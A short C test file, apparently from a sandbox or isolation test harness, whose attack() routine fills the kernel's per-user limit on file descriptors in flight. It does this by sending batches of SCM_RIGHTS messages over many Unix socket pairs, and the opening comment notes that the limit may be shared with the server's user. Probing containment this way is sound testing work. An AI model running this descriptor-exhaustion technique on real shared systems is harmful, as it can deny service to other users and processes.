/* Has as many descriptors in flight as the kernel lets it: it counts those of a user, who may be the server's. */
#define PLACE IN_RUN
#include "attack.h"

enum { AT_ONCE = 250, MOST_PAIRS = 4000 };

static void attack(void) {
    int sent = open("/dev/null", O_RDWR | O_CLOEXEC), descriptors[AT_ONCE];
    for (int i = 0; i < AT_ONCE; i++) descriptors[i] = sent;
    char control[CMSG_SPACE(sizeof descriptors)] = {0}, byte = 'x';
    int total = 0, pair[2];
    for (int pairs = 0; pairs < MOST_PAIRS; pairs++) {
        if (socketpair(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0, pair) != 0) break;
        for (;;) {
            struct iovec part = {&byte, 1};
            struct msghdr message = {
                .msg_iov = &part, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof control};
            struct cmsghdr *header = CMSG_FIRSTHDR(&message);
            header->cmsg_level = SOL_SOCKET;
            header->cmsg_type = SCM_RIGHTS;
            header->cmsg_len = CMSG_LEN(sizeof descriptors);
            memcpy(CMSG_DATA(header), descriptors, sizeof descriptors);
            if (sendmsg(pair[0], &message, MSG_NOSIGNAL | MSG_DONTWAIT) < 0) break;
            total += AT_ONCE;
        }
        if (errno != EAGAIN) break;
    }
    note("%d in flight (%s)", total, strerror(errno));
}
